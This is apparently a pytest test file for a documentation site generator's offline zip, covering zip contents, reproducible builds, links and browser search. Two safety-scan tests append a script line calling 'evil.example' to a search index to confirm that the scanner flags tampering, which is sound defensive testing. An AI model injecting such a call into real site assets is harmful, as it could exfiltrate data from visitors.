"""The offline copy: site/handbook-offline.zip unpacked and opened from the file system."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from generator.build import BuildSettings, build
from generator.catalog.model import Catalog
from generator.outputs import OFFLINE_ZIP
from generator.resources import theme_overrides
from generator.safety.scan import scan_output
from generator.validate.check import check_repository
from tests.conftest import copy_repository
from tests.website.test_browser import ARGS, CHROMIUM, search_term

EPOCH = "1767225600"


def build_zip(root: Path, site: Path, engine: str = "mkdocs") -> Path:
    catalog = check_repository(root).catalog
    assert catalog is not None
    settings = BuildSettings(root=root, site_dir=site, pdf=False, offline=True, engine=engine)
    build(catalog, settings)
    return site / OFFLINE_ZIP


def unpack(archive: Path, folder: Path) -> Path:
    with zipfile.ZipFile(archive) as z:
        z.extractall(folder)
    return folder / "handbook"


def offline_copy(
    tmp_path_factory: pytest.TempPathFactory, engine: str
) -> Iterator[tuple[Path, Catalog, Path]]:
    """(repository, catalog, unpacked offline folder) of the default catalog, built by engine."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("SOURCE_DATE_EPOCH", EPOCH)
        root = copy_repository(tmp_path_factory.mktemp(f"offline-{engine}") / "repo")
        folder = unpack(build_zip(root, root / "site", engine), root / "unpacked")
        catalog = check_repository(root).catalog
        assert catalog is not None
        yield root, catalog, folder


@pytest.fixture(scope="module")
def offline(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Catalog, Path]]:
    yield from offline_copy(tmp_path_factory, "mkdocs")


@pytest.fixture(scope="module")
def zensical_offline(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Path, Catalog, Path]]:
    """Built with --engine zensical: Zensical's own offline support."""
    yield from offline_copy(tmp_path_factory, "zensical")


def test_zip_holds_every_page_as_a_file_and_the_inlined_search_index(
    offline: tuple[Path, Catalog, Path],
) -> None:
    root, catalog, folder = offline
    with zipfile.ZipFile(root / "site" / OFFLINE_ZIP) as z:
        names = z.namelist()
        assert names == sorted(names)
        assert {i.date_time for i in z.infolist()} == {(2026, 1, 1, 0, 0, 0)}
        assert all(n.startswith("handbook/") for n in names)
    files = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert {n.removeprefix("handbook/") for n in names} == files
    assert {"index.html", "search/search_index.js", "tags.html", "worksheets.html"} <= files
    assert "worksheets/returns-template.csv" in files  # the worksheets page's one non-PDF download
    assert all(f"goals/{g.audience}/{g.id}.html" in files for g in catalog.goals)
    index = (folder / "search/search_index.js").read_text()
    assert index.startswith("var __index = {")
    home = (folder / "index.html").read_text()
    assert "unpkg.com" not in home and "iframe-worker/shim.js" in home


def test_the_same_input_gives_the_same_zip(
    offline: tuple[Path, Catalog, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, _, _ = offline
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    again = build_zip(root, tmp_path / "site")
    assert again.read_bytes() == (root / "site" / OFFLINE_ZIP).read_bytes()


def test_the_safety_scan_passes_the_offline_copy_and_refuses_a_tampered_index(
    offline: tuple[Path, Catalog, Path], tmp_path: Path
) -> None:
    root, _, folder = offline
    themes = [theme_overrides(root)]
    assert scan_output(folder, theme_dirs=themes) == []
    index = folder / "search/search_index.js"
    original = index.read_bytes()
    try:
        index.write_bytes(original + b";fetch('https://evil.example/')")
        assert [f.file for f in scan_output(folder, theme_dirs=themes)] == [
            "search/search_index.js"
        ]
    finally:
        index.write_bytes(original)


def test_the_site_links_the_book_and_the_zip(offline: tuple[Path, Catalog, Path]) -> None:
    root, catalog, _ = offline
    home = (root / "site/index.html").read_text()
    assert f'href="{OFFLINE_ZIP}"' in home
    assert 'href="book/handbook-en-a4.pdf"' in home
    assert catalog.ui("book.heading") in home
    worksheets = (root / "site/worksheets/index.html").read_text()
    assert f'href="../{OFFLINE_ZIP}"' in worksheets


def browse_offline(folder: Path, catalog: Catalog, engine: str) -> None:
    """Open the unpacked copy from the file system in Chromium: go to a goal through the
    navigation, then search for a word and wait for its goal among the results."""
    from playwright.sync_api import sync_playwright

    if not Path(CHROMIUM).exists():
        pytest.fail("Debian's chromium is missing: run `make system-deps`")
    goal = catalog.goals_for("mentee")[0]
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = browser.new_page()
            errors: list[str] = []
            remote: list[str] = []
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on(
                "request", lambda r: None if r.url.startswith("file:") else remote.append(r.url)
            )
            page.goto((folder / "index.html").as_uri())
            page.get_by_role("link", name=catalog.ui("site.audience.mentee.title")).first.click()
            page.locator("article").get_by_role("link", name=goal.title).first.click()
            page.wait_for_load_state("load")
            assert page.url.endswith(f"goals/mentee/{goal.id}.html")
            assert page.locator("h1").first.inner_text().rstrip("¶") == goal.title
            word, found = search_term(catalog)
            if engine == "mkdocs":
                page.keyboard.press("s")  # Material's shortcut focuses the search box
                results = page.locator(".md-search-result__item")
            else:
                page.locator(".md-search__button").first.click()  # Zensical: Ctrl+K, no "s"
                results = page.locator("dialog")  # Zensical lists its results in a dialog
            page.keyboard.type(word, delay=20)
            hit = results.filter(has_text=found.title) if engine == "mkdocs" else results
            hit.get_by_text(found.title).first.wait_for(timeout=15000)  # the goal's page
            assert errors == [] and remote == []
        finally:
            browser.close()


@pytest.mark.browser
def test_navigation_and_search_work_from_the_file_system(
    offline: tuple[Path, Catalog, Path],
) -> None:
    _, catalog, folder = offline
    browse_offline(folder, catalog, "mkdocs")


def test_zensical_builds_the_offline_copy_with_its_own_offline_support(
    zensical_offline: tuple[Path, Catalog, Path],
) -> None:
    root, catalog, folder = zensical_offline
    files = {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}
    assert {"index.html", "search.js", "search.json", "tags.html", "worksheets.html"} <= files
    assert "search/search_index.js" not in files  # not Material's: Zensical built it
    assert all(f"goals/{g.audience}/{g.id}.html" in files for g in catalog.goals)
    assert (folder / "search.js").read_text().startswith("var __index = {")
    themes = [theme_overrides(root)]
    assert scan_output(folder, theme_dirs=themes, engine="zensical") == []
    index = folder / "search.js"
    original = index.read_bytes()
    try:
        index.write_bytes(original + b"fetch('https://evil.example/')")
        findings = scan_output(folder, theme_dirs=themes, engine="zensical")
        assert [f.file for f in findings] == ["search.js"]
    finally:
        index.write_bytes(original)


@pytest.mark.browser
def test_zensical_offline_search_and_navigation_work_from_the_file_system(
    zensical_offline: tuple[Path, Catalog, Path],
) -> None:
    _, catalog, folder = zensical_offline
    browse_offline(folder, catalog, "zensical")
